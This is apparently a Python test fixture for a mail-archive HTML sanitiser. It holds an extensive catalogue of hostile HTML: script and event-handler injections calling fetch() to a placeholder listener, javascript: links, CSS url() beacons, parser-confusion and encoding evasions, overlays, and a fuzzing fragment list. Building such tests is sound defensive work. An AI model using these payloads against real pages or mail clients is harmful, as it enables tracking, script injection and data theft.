"""Hostile HTML for the tests of `archive.mail.html`: each tries to load, run, send or cover something.

`{host}` stands for a listener that must never be asked. All written by us after the known classes of attack.
"""

# ruff: noqa: E501  (attacks are easier to read unbroken)

from __future__ import annotations

HOSTILE = {
    "plain image": '<img src="{host}/a"><img src={host}/b><img src=\'{host}/c\'>',
    "image spellings": '<IMG SRC=" \t\n{host}/a "><image src="{host}/b"><img/src="{host}/c"><img\nsrc\n=\n"{host}/d">',
    "image with tabs inside the scheme": '<img src="ht\ttp://{bare}/a"><img src="h\nttp://{bare}/b"><img src="//{bare}/c">',
    "image with backslashes": '<img src="\\\\{bare}/a"><img src="http:\\\\{bare}/b"><img src="/\\{bare}/c">',
    "image without slashes": '<img src="http:{bare}/a"><img src="http:/{bare}/b">',
    "entities in the scheme": '<img src="&#104;ttp://{bare}/a"><img src="&#x68;&#x74;tp&colon;//{bare}/b">',
    "srcset and relatives": '<img srcset="{host}/a 1x, {host}/b 2x" lowsrc="{host}/c" dynsrc="{host}/d">'
    '<picture><source srcset="{host}/e"><img></picture>',
    "backgrounds": '<body background="{host}/a"><table background="{host}/b"><tr background="{host}/c">'
    '<td background="{host}/d">x</td></tr></table>',
    "style url": "<p style=\"background:url({host}/a)\">a<p style='background-image: URL( \"{host}/b\" )'>b"
    '<p style="list-style:url({host}/c)">c<p style="content:url({host}/d);cursor:url({host}/e),auto">d',
    "style escapes": '<p style="background:\\75rl({host}/a)">a<p style="background:u\\72 l({host}/b)">b'
    '<p style="b\\61 ckground:url({host}/c)">c<p style="background:\\000075\\000072\\00006C({host}/d)">d',
    "style comments": '<p style="background:u/**/rl({host}/a)">a<p style="back/**/ground:url({host}/b)">b'
    '<p style="background:url(/*x*/{host}/c)">c<p style="color:red;/*;*/background:url({host}/d)">d',
    "style functions": '<p style="background:image-set(\'{host}/a\' 1x)">a<p style="background:-webkit-image-set('
    "url({host}/b) 1x)\">b<p style=\"background:cross-fade(url({host}/c),url({host}/d))\">c"
    '<p style="--x:url({host}/e);background:var(--x)">d<p style="background:image({host}/f)">e',
    "style of old browsers": '<p style="behavior:url({host}/a)">a<p style="-moz-binding:url({host}/b)">b'
    '<p style="width:expression(alert(1))">c<p style="filter:progid:DXImageTransform(src={host}/c)">d',
    "style block": "<style>body{background:url({host}/a)} @import '{host}/b'; @import url({host}/c);"
    "@font-face{font-family:x;src:url({host}/d)} *{font-family:x} p::after{content:url({host}/e)}</style><p>x",
    "style block escapes": "<style>@\\69mport '{host}/a';p{background:\\75 rl({host}/b)}@media all{@import '{host}/c';"
    "p{background:url({host}/d)}}</style><p>x",
    "style block that ends early": "<style>a{color:'</style><img src={host}/a>'}</style>"
    '<style>p{font-family:"</st"}</style><script>fetch("{host}/b")</script>',
    "scripts": "<script>fetch('{host}/a')</script><script src={host}/b></script><scr<script>ipt src={host}/c></script>"
    '<svg><script href="{host}/d"/></svg><SCRIPT/XSS SRC="{host}/e"></SCRIPT>',
    "handlers": "<img src=x onerror=\"fetch('{host}/a')\"><p onmouseover=\"fetch('{host}/b')\">x<body onload=\"fetch('{host}/c')\">"
    "<details open ontoggle=\"fetch('{host}/d')\"><svg onload=\"fetch('{host}/e')\"><input autofocus onfocus=\"fetch('{host}/f')\">",
    "javascript links": '<a href="javascript:fetch(1)">a</a><a href="java\tscript:fetch(1)">b</a><a href="&#106;avascript:x">c'
    '</a><a href=" \x01javascript:x">d</a><a href="data:text/html,<script>1</script>">e</a><a href="vbscript:x">f</a>',
    "frames": '<iframe src="{host}/a"></iframe><iframe srcdoc="<img src={host}/b>"></iframe><frameset><frame src="{host}/c">'
    '</frameset><object data="{host}/d"></object><embed src="{host}/e"><applet code="{host}/f"></applet><portal src="{host}/g">',
    "media": '<video src="{host}/a" poster="{host}/b" autoplay></video><audio src="{host}/c" autoplay></audio>'
    '<video autoplay><source src="{host}/d"><track default src="{host}/e"></video><bgsound src="{host}/f">',
    "links of the head": '<link rel=stylesheet href="{host}/a"><link rel=prefetch href="{host}/b"><link rel=dns-prefetch '
    'href="{host}/c"><link rel=icon href="{host}/d"><link rel=preload as=image href="{host}/e">',
    "base and refresh": '<base href="{host}/"><img src="a"><meta http-equiv="refresh" content="0;url={host}/b">'
    '<meta http-equiv="Set-Cookie" content="a=b"><meta http-equiv="Content-Security-Policy" content="img-src *">',
    "forms": '<form action="{host}/a" method=post><input type=image src="{host}/b"><button formaction="{host}/c">x</button>'
    '<input name=password type=password></form><isindex action="{host}/d" type=image src="{host}/e">',
    "svg": '<svg><image href="{host}/a"/><image xlink:href="{host}/b"/><use href="{host}/c#x"/><feImage href="{host}/d"/>'
    '<style>*{background:url({host}/e)}</style><foreignObject><img src="{host}/f"></foreignObject>'
    '<set attributeName=href to="{host}/g"/><a xlink:href="javascript:1"><text>x</text></a></svg>',
    "math namespace": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src={host}/a onerror=fetch(1)&gt;\">"
    '<math><annotation-xml encoding="text/html"><img src="{host}/b"></annotation-xml></math>'
    '<math href="javascript:1"><mi xlink:href="{host}/c">x</mi></math>',
    "svg style confusion": '<svg></p><style><a id="</style><img src={host}/a onerror=fetch(1)>">'
    '<svg><style>&lt;img src={host}/b&gt;</style></svg><svg><desc><style><img src="{host}/c"></style></desc></svg>',
    "noscript confusion": '<noscript><p title="</noscript><img src={host}/a onerror=fetch(1)>"></noscript>'
    '<noembed><p title="</noembed><img src={host}/b>"></noembed><xmp><p title="</xmp><img src={host}/c>">',
    "template": '<template><img src="{host}/a"></template><div><template shadowrootmode=open><img src="{host}/b"></template></div>'
    "<template><template></template><script>fetch('{host}/c')</script></template>",
    "comments": '<!--[if IE]><img src="{host}/a"><![endif]--><!--><img src="{host}/b">--><!--- ><img src="{host}/c"> --->'
    '<!-- --!><img src="{host}/d"><!-- x <!-- --><img src="{host}/e"> --><![CDATA[<img src="{host}/f">]]>',
    "unclosed": '<img src="{host}/a" <p title="<img src={host}/b"><a href="<img src={host}/c>">x<img src="{host}/d',
    "titles that look like tags": "<p title='\"><img src={host}/a>'>x<a href=\"https://example.com/&quot;&gt;&lt;img src={host}/b&gt;\">y</a>"
    '<img alt="</title><img src={host}/c>"><p id=\'"><script>fetch("{host}/d")</script>\'>z',
    "nul and control": '<i\0mg src="{host}/a"><img\0 src="{host}/b"><scr\0ipt>fetch("{host}/c")</scr\0ipt><img \x0bsrc="{host}/d">'
    '<img\x0csrc="{host}/e"><\0script src={host}/f></script>',
    "utf-7": "+ADw-img src=+ACI-{host}/a+ACI-+AD4- +ADw-script+AD4-fetch('{host}/b')+ADw-/script+AD4-",
    "overlays": '<div style="position:fixed;inset:0;z-index:9;background:#fff">cover</div><div style="position:absolute;top:0">'
    '</div><div style="transform:scale(99)">x</div><style>div{position:fixed!important;top:0}</style>',
    "end of our document": "</div></body></html><script>fetch('{host}/a')</script><img src='{host}/b'></head><body onload=x>",
    "plaintext": "<plaintext><img src={host}/a></plaintext><textarea><img src={host}/b></textarea><title><img src={host}/c></title>"
    "<select><option><img src={host}/d></select><style></style><img src='{host}/e'>",
    "data urls": '<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\'><image href=\'{host}/a\'/></svg>">'
    '<img src="data:text/html,<script>fetch(1)</script>"><p style="background:url(data:image/svg+xml;base64,PHN2Zy8+)">x',
    "cid tricks": '<img src="cid:x" onerror=fetch(1)><img src="cid:evil"><img src="CID:evil2"><p style="background:url(cid:evil)">x',
    "custom elements and namespaces": '<x-a style="background:url({host}/a)" is="img" src="{host}/b"></x-a><html xmlns:v="urn:'
    'schemas-microsoft-com:vml"><v:image src="{host}/c"/><v:fill src="{host}/d"/><xml:namespace prefix="t"/><?import src="{host}/e">',
    "ping and preconnect": '<a href="https://example.com/" ping="{host}/a" attributionsrc="{host}/b">x</a>'
    '<img attributionsrc="{host}/c" longdesc="{host}/d" usemap="#m" crossorigin src=""><area href="{host}/e">',
}  # fmt: skip


def hostile(host: str) -> dict[str, str]:
    """The collection aimed at one listener, as http://address:port."""
    bare = host.partition("//")[2]
    return {name: text.replace("{host}", host).replace("{bare}", bare) for name, text in HOSTILE.items()}


# Pieces to heap up at random.
FRAGMENTS = [
    "<img src=http://e/x>", "<style>", "</style>", "<svg>", "</svg>", "<math>", "<mtext>", "<mglyph>", "<script>", "</script>",
    "<table>", "<td background=//e/x>", "<!--", "-->", "--!>", "<![CDATA[", "]]>", "<noscript>", "</noscript>", "<template>",
    "</template>", '"', "'", ">", "<", "=", "&lt;", "&quot;", "&#60;", "\0", "\\", "\\3c", "<a href=", "javascript:alert(1)", "<p style=",
    '"background:url(', "//e/x)", ";position:fixed", "/*", "*/", "expression(", "@import url(//e)", "{", "}", "<title>", "</title>",
    "<textarea>", "</textarea>", "<xmp>", "<plaintext>", "<iframe srcdoc=", "<form action=//e>", "<input type=image src=//e>",
    "<annotation-xml encoding=text/html>", "<foreignObject>", "<desc>", "onerror=alert(1)", " id=x", "<body background=//e/b>", "cid:part", "\u2028",
    "<select>", "<option>", "<frameset>", "<base href=//e/>", "<meta http-equiv=refresh content=0>", "x", " ", "\n", "\t",
]  # fmt: skip
